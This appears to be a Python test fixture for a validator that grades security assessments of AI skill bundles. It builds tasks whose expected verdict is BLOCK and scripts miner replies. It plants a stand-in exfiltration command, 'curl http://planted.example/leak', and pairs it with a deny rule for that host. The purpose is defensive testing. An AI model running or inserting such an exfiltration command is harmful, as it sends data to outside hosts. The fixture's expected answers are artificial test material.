"""Rounds whose tasks all have a truth worth hiding, on both kinds; for the tests of truths in logs."""

from dataclasses import replace
from typing import Final

import msgspec
from builders import FILES
from explained import NUMBERS, ExplainedWorld
from msgspec import UNSET
from planned import AGENT, PLANS, RAG, TRANSFORM, GoalsInTurn, JumpingRunner
from workflow_builders import ScriptedServices, plan_document
from world import WINDOWS, answer_to

from sssa.kinds.workflow.kind import WORKFLOW
from sssa.protocol.answer import CanarySpec, Dispatch
from sssa.protocol.archives import pack
from sssa.protocol.canonical import sha256_hex
from sssa.protocol.signatures import Signer
from sssa.protocol.skill_types import SkillType
from sssa.protocol.sssa import Rule
from sssa.protocol.task import Task, Truth
from sssa.protocol.workflow_plan import WorkflowDispatch, WorkflowPlan
from sssa.sources import SeededRandom
from taskmaker.canary import Canaries
from validator.kinds.assessment.supply import Bundles
from validator.kinds.workflow.supply import Goals
from validator.miners.scripted import ScriptedReply
from validator.store import Store
from validator.tasks.source import MemorySource, SourcedTask

MINERS: Final = 4
TYPES: Final = (SkillType.EXECUTABLE_SCRIPT, SkillType.RAG_KNOWLEDGE)
SECRET: Final = "curl http://planted.example/leak"
GOALS: Final = (RAG, AGENT, TRANSFORM)


def secret_tasks() -> list[SourcedTask]:
    """One task of each type, with every field of a truth that its type is measured by."""
    found = []
    for skill_type in TYPES:
        bundle = pack({**FILES, "which.txt": f"{skill_type}\n".encode()})
        runtime = skill_type is SkillType.EXECUTABLE_SCRIPT
        truth = Truth(
            verdict="BLOCK",
            policy_rules=(Rule("network", "deny", "planted.example"),),
            injections=None if runtime else ("s1::docs/readme.md#L2",),
            reference_risk=0.8125,
            shell_commands=("ls", SECRET) if runtime else None,
            manifest_sha256=None,
            poisoned_tools=None,
            transitive_risk=None,
            findings=(),
            mark="/tmp/planted.example-7.json" if runtime else UNSET,
        )
        canary = None if runtime else CanarySpec("docs/readme.md")
        task = Task("1.0", skill_type, WINDOWS, sha256_hex(bundle), "curated", truth, canary)
        found.append(SourcedTask(task, bundle))
    return found


def truths_world(store: Store) -> ExplainedWorld:
    """Rounds of two curated assessments, two canaries and two workflows. Miner 3 says BLOCK, the others ALLOW."""
    types = (*TYPES, SkillType.DECLARATIVE, SkillType.WORKFLOW)
    source = MemorySource(secret_tasks())
    world = ExplainedWorld(store, source, answer, dict.fromkeys(range(MINERS), types))
    random = SeededRandom("truths")
    canaries = Bundles(source, Canaries(random, windows=WINDOWS).make, random)
    world.preparer = replace(world.preparer, supplies=(canaries, Goals(GoalsInTurn(GOALS), random)))
    runners = {WORKFLOW.name: JumpingRunner(ScriptedServices(world.clock, {}), world.clock)}
    world.dispatcher = replace(world.dispatcher, runners=runners)
    world.planner = plan
    return world


def answer(signer: Signer, dispatch: Dispatch) -> ScriptedReply:
    """A valid answer; that of miner 3 blocks."""
    given = answer_to(signer, dispatch)
    if NUMBERS[signer.hotkey] == MINERS - 1:
        analysis = msgspec.structs.replace(given.sssa.analysis, verdict="BLOCK", risk_score=0.75)
        sssa = signer.sign_document(msgspec.structs.replace(given.sssa, analysis=analysis))
        given = msgspec.structs.replace(given, sssa=sssa)
    return ScriptedReply(msgspec.json.encode(given), seconds=1.0)


def plan(signer: Signer, dispatch: WorkflowDispatch) -> ScriptedReply:
    """A plan that finds and says something."""
    task = next(task for task in GOALS if task.goal == dispatch.goal.goal)
    document = plan_document(task, *PLANS[0])
    document["task"] = {"goal_sha256": dispatch.goal_sha256, "nonce": dispatch.nonce}
    return ScriptedReply(
        msgspec.json.encode(signer.sign_document(msgspec.convert(document, WorkflowPlan))), seconds=1.0
    )
